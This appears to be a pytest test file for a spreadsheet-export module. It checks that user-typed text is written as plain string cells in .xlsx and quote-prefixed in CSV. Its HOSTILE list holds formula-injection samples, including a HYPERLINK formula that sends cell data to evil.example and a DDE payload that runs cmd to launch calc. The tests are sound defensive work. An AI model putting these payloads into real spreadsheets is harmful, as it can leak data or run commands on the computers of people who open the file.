"""The one cell rule (I-10, D-1; issue 14 defect 1): every spreadsheet cell written from what a
person typed is text, whatever it starts with: in .xlsx a string cell (never a formula), in CSV
defused with a leading `'` (DESIGN §5.3)."""

import csv
import io
import unicodedata

import openpyxl
import pytest

from kariya.formats import spreadsheets

# What the security review typed into store names and adjustment reasons.
HOSTILE = [
    '＝HYPERLINK("http://evil.example/?"&B2,"明細")',
    " =cmd|' /C calc'!A0",
    "\u3000=1+1",
    "=1+1",
    "+81 566 23 1111",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize(
    "text,defused",
    [
        ("=1+1", "'=1+1"),
        ("+81 566", "'+81 566"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("＝１＋１", "'＝１＋１"),  # full-width, as NFKC reads it
        ("＝HYPERLINK(x)", "'＝HYPERLINK(x)"),
        ("＠店", "'＠店"),
        ("  =cmd", "'  =cmd"),  # after leading spaces
        (" =cmd|' /C calc'!A0", "' =cmd|' /C calc'!A0"),
        ("\u3000=1+1", "'\u3000=1+1"),
        ("\u3000-x", "'\u3000-x"),
        ("かりや青果店", "かりや青果店"),
        ("A=B", "A=B"),
        ("", ""),
    ],
)
def test_formula_like_text_gets_a_leading_quote(text, defused):
    assert spreadsheets.defuse(text) == defused


def test_the_formula_characters_are_those_nfkc_reads_as_formula_starts():
    starts = ("=", "+", "-", "@")
    found = {chr(c) for c in range(0x10000) if unicodedata.normalize("NFKC", chr(c))[:1] in starts}
    assert found == spreadsheets.FORMULA


def test_csv_cells_are_defused_and_numbers_stay_numbers():
    assert spreadsheets.csv_row(["=1+1", 1500, None, True, 2.5, "店"]) == [
        "'=1+1",
        1500,
        "",
        "true",
        "2.5",
        "店",
    ]
    out = io.StringIO()
    csv.writer(out).writerows([spreadsheets.csv_row(HOSTILE)])
    (read_back,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in read_back)


@pytest.mark.parametrize("write_only", [False, True], ids=["workbook", "write-only"])
def test_xlsx_text_is_a_string_cell_whatever_it_starts_with(write_only):
    wb = openpyxl.Workbook(write_only=write_only)
    ws = wb.create_sheet() if write_only else wb.active
    spreadsheets.append(ws, [*HOSTILE, 1500, None])
    spreadsheets.append(ws, ["制御\x07文字", "=2"])
    if not write_only:
        spreadsheets.set_text(ws.cell(3, 1), "=A1")
    out = io.BytesIO()
    wb.save(out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    first = [(c.value, c.data_type) for c in sheet[1]]
    # As typed, as text (XML reads a CR as a line feed).
    assert first[: len(HOSTILE)] == [(text.replace("\r", "\n"), "s") for text in HOSTILE]
    assert first[len(HOSTILE)] == (1500, "n")
    assert [(c.value, c.data_type) for c in sheet[2]][:2] == [("制御〓文字", "s"), ("=2", "s")]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    if not write_only:
        assert (sheet["A3"].value, sheet["A3"].data_type) == ("=A1", "s")


def test_plain_openpyxl_would_have_written_formulas():
    """What the rule prevents: openpyxl takes text starting with "=" for a formula."""
    wb = openpyxl.Workbook()
    wb.active.append(["=1+1"])
    out = io.BytesIO()
    wb.save(out)
    assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"
